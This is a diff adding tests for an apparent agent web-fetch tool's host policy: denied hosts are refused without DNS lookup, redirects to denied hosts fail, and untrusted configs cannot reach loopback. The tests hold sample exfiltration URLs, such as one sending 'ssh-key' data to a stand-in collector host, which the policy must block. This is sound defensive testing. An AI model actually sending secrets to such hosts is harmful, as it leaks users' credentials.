@@ -661,6 +661,64 @@ def test_a_token_is_not_carried_to_another_origin_by_a_redirect(project: Path) -
     assert "Authorization" not in elsewhere.requests[0].headers
 
 
+# --- the web policy ------------------------------------------------------------------------
+
+
+def test_a_policy_that_denies_everything_but_named_hosts_reaches_only_those(
+    project: Path,
+) -> None:
+    resolver = FakeResolver({"docs.example": ["93.184.216.34"], "secret.collector.example": []})
+    tool = WebFetch(resolver=resolver)
+    with LoopbackServer({"/": Reply.html(PAGE)}) as server:
+        runtime = runtime_with(
+            project,
+            {"deny_hosts": ["*"], "allow_hosts": [f"127.0.0.1:{server.port}"]},
+            tool,
+        )
+        allowed = fetch(runtime, server.url("/"))
+        refused = fetch(runtime, "https://secret.collector.example/?data=ssh-key")
+
+    assert allowed.ok
+    assert isinstance(refused.error, ExecutionFailed)
+    assert str(refused.error) == (
+        "refused to fetch https://secret.collector.example/?data=ssh-key: the web policy "
+        "denies secret.collector.example (deny_hosts entry '*')"
+    )
+    # Not even resolved: a DNS query for a denied name could itself carry data out.
+    assert resolver.lookups == []
+
+
+def test_a_redirect_to_a_denied_host_is_refused(project: Path) -> None:
+    with LoopbackServer({"/": Reply.redirect("http://blocked.example/steal")}) as server:
+        runtime = runtime_with(
+            project,
+            {"deny_hosts": ["blocked.example"], "allow_hosts": ["127.0.0.1"]},
+            WebFetch(resolver=FakeResolver({})),
+        )
+        outcome = fetch(runtime, server.url("/"))
+
+    assert "the web policy denies blocked.example" in str(outcome.error)
+
+
+def test_an_untrusted_project_cannot_open_a_local_address_but_can_deny_hosts(
+    project: Path,
+) -> None:
+    resolver = FakeResolver({"public.example": ["93.184.216.34"]})
+    with LoopbackServer({"/": Reply.html(PAGE)}) as server:
+        write_config(
+            project,
+            {"web": {"allow_hosts": ["127.0.0.1"], "deny_hosts": ["public.example"]}},
+            trusted=False,
+        )
+        runtime = runtime_with(project, None, WebFetch(resolver=resolver))
+        local = fetch(runtime, server.url("/"))
+        denied = fetch(runtime, "http://public.example/")
+
+    assert "is a loopback address" in str(local.error)
+    assert server.requests == []
+    assert "the web policy denies public.example" in str(denied.error)
+
+
 # --- configuration ---------------------------------------------------------------------------
 
 
